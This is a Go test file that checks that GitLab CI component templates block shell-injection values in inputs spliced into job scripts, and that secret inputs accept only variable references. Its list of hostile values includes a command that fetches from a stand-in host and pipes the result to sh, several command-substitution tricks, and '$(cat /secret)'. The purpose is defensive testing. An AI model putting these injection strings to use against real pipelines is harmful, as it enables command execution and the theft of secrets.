package main

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"

	"github.com/paved-dev/paved/shared/command"
)

// componentSpec is the spec document of a GitLab component.
type componentSpec struct {
	Spec struct {
		Inputs map[string]struct {
			Regex string `yaml:"regex"`
			Type  string `yaml:"type"`
		} `yaml:"inputs"`
	} `yaml:"spec"`
}

var inputRef = regexp.MustCompile(`\$\[\[\s*inputs\.([A-Za-z0-9_-]+)\s*\]\]`)

// TestAttackTemplateInputsCannotReachTheShell: every input a component
// splices into its job's script has a regex that refuses what a hostile
// pipeline (or a careless include) could pass to reach the shell, and every
// secret input takes only a $VARIABLE reference, never a literal token.
func TestAttackTemplateInputsCannotReachTheShell(t *testing.T) {
	hostile := []string{"paved; curl evil.example | sh", "paved && id", "$(id)", "`id`", "paved\nid", "paved #", "a b",
		"'paved'", `"paved"`, "paved|sh", "paved>x", "$PAVED;id", "${X}$(id)", "paved &", "~/paved", "*"}
	secrets := map[string]bool{}
	for _, c := range command.All() {
		for _, in := range c.CIInputs() {
			if in.Secret {
				secrets[in.Name] = true
			}
		}
	}
	if len(secrets) == 0 {
		t.Fatal("no secret inputs declared: the test checks nothing")
	}
	files, _ := filepath.Glob("templates/*.yml")
	if len(files) < 5 {
		t.Fatalf("found only %v", files)
	}
	spliced := 0
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		spec, job, ok := strings.Cut(string(raw), "\n---\n")
		if !ok {
			t.Fatalf("%s: no spec document", f)
		}
		var cs componentSpec
		if err := yaml.Unmarshal([]byte(spec), &cs); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		var jobs map[string]struct {
			Script []string `yaml:"script"`
		}
		if err := yaml.Unmarshal([]byte(job), &jobs); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for name, j := range jobs {
			for _, line := range j.Script {
				for _, m := range inputRef.FindAllStringSubmatch(line, -1) {
					spliced++
					in := m[1]
					re := cs.Spec.Inputs[in].Regex
					if re == "" {
						t.Errorf("%s job %s: input %s goes into script: with no regex", f, name, in)
						continue
					}
					rx, err := regexp.Compile(re)
					if err != nil {
						t.Fatalf("%s: input %s regex %q: %v", f, in, re, err)
					}
					for _, h := range hostile {
						if rx.MatchString(h) {
							t.Errorf("%s: input %s (in script:) accepts %q", f, in, h)
						}
					}
					for _, good := range []string{"paved", "./bin/paved", "/usr/local/bin/paved", "$PAVED_BIN"} {
						if !rx.MatchString(good) {
							t.Errorf("%s: input %s refuses the plain value %q", f, in, good)
						}
					}
				}
			}
		}
		for in := range secrets {
			spec, ok := cs.Spec.Inputs[in]
			if !ok {
				continue
			}
			rx, err := regexp.Compile(spec.Regex)
			if spec.Regex == "" || err != nil {
				t.Errorf("%s: secret input %s has no usable regex (%q)", f, in, spec.Regex)
				continue
			}
			for _, literal := range []string{"ghp_0123456789abcdefABCDEF0123456789abcd", "glpat-abcdefghij0123456789", "token", "$TOKEN extra", "$(cat /secret)"} {
				if rx.MatchString(literal) {
					t.Errorf("%s: secret input %s accepts the literal %q", f, in, literal)
				}
			}
			for _, ref := range []string{"", "$GH_TOKEN", "${GH_TOKEN}"} {
				if !rx.MatchString(ref) {
					t.Errorf("%s: secret input %s refuses the variable reference %q", f, in, ref)
				}
			}
		}
	}
	if spliced < len(files) {
		t.Fatalf("only %d script interpolations found in %d templates", spliced, len(files))
	}
}
